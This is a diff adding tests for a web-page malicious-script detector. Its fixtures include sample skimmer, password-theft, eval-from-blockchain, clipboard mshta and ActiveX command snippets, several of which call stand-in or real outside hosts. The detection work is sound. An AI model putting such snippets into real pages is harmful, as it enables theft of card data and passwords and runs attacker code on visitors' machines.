@@ -3,7 +3,9 @@ import { describe, it } from 'node:test';
 import type { CapturedBody } from '@adsweep/shared/capture/artifacts/bodies.ts';
 import type { Observation, ObservationKind, ObservationOf } from '@adsweep/shared/capture/observations/index.ts';
 import { linksOf } from '../src/analysis/detectors/deception/links-of.ts';
+import { matchingSignatures } from '../src/analysis/detectors/deception/malicious-script.ts';
 import { findPhrase } from '../src/analysis/detectors/deception/phrase.ts';
+import { SCRIPT_SIGNATURES } from '../src/analysis/detectors/deception/script-signatures.ts';
 import { readableText } from '../src/analysis/detectors/deception/seen-page.ts';
 import { detect } from '../src/analysis/detectors/detect.ts';
 import { type Evidence, NO_EVIDENCE } from '../src/analysis/detectors/evidence.ts';
@@ -206,6 +208,57 @@ describe('§2.5.13 malicious_script', () => {
       `<script>self.__next_f.push("${SKIMMER}")</script>`,
     ])
       assert.deepEqual(slugsOf({ html }, [], { bodies }), [], html);
+  });
+});
+
+describe('§2.5.13 the signatures of malicious scripts', () => {
+  const codesOf = (text: string) => [...text].map((character) => character.charCodeAt(0)).join(',');
+  const [SCRIPT, ADDRESS] = [codesOf('script'), codesOf('https://x.example/a.js')];
+  /** By the name of its signature: a script that does it, and one that only looks so. */
+  const samples: [name: string, does: string, looksSo: string][] = [
+    [
+      'a skimmer of card numbers',
+      "const u = atob('aHR0cHM6Ly94'); if (/onepage/.test(path)) navigator.sendBeacon(u, cc_number.value)",
+      "const u = atob('aHR0cHM6Ly94'); fetch(u)",
+    ],
+    [
+      'a thief of passwords',
+      "fetch('https://api.telegram.org/bot1:a/sendMessage', { body: form.password.value })",
+      "fetch('https://api.telegram.org/bot1:a/sendMessage', { body: order.number })",
+    ],
+    [
+      'code that is fetched from a blockchain',
+      "rpc('https://bsc-testnet-rpc.publicnode.com', 'eth_call').then((x) => eval(atob(x)))",
+      "rpc('https://bsc-testnet-rpc.publicnode.com', 'eth_call').then(show)",
+    ],
+    [
+      'a command that is put into the clipboard to be run',
+      "box.value = 'mshta https://x.example/a # I am not a robot'; document.execCommand('copy')",
+      "box.value = 'powershell is a shell'; document.execCommand('copy')",
+    ],
+    [
+      'an address that is spelt by character codes',
+      `var e = document.createElement(String.fromCharCode(${SCRIPT})); e.src = String.fromCharCode(${ADDRESS})`,
+      `const API = String.fromCharCode(${ADDRESS}); const e = document.createElement('script'); e.src = API`,
+    ],
+    [
+      'a program that is started by ActiveX',
+      "new ActiveXObject('WScript.Shell').Run('cmd /c calc')",
+      "new ActiveXObject('Microsoft.XMLHTTP').open('GET', '/')",
+    ],
+  ];
+
+  it('each find what they are about, and nothing that only looks so', () => {
+    const found = (script: string) => matchingSignatures(script).map(({ name }) => name);
+    for (const [name, does, looksSo] of samples) assert.deepEqual([found(does), found(looksSo)], [[name], []], name);
+  });
+
+  it('are all tried here, and say where what they look for was published', () => {
+    assert.deepEqual(
+      SCRIPT_SIGNATURES.map(({ name }) => name),
+      samples.map(([name]) => name),
+    );
+    for (const { source } of SCRIPT_SIGNATURES) assert.match(source, /[\w-]+\.[a-z]{2,}\//);
   });
 });
 
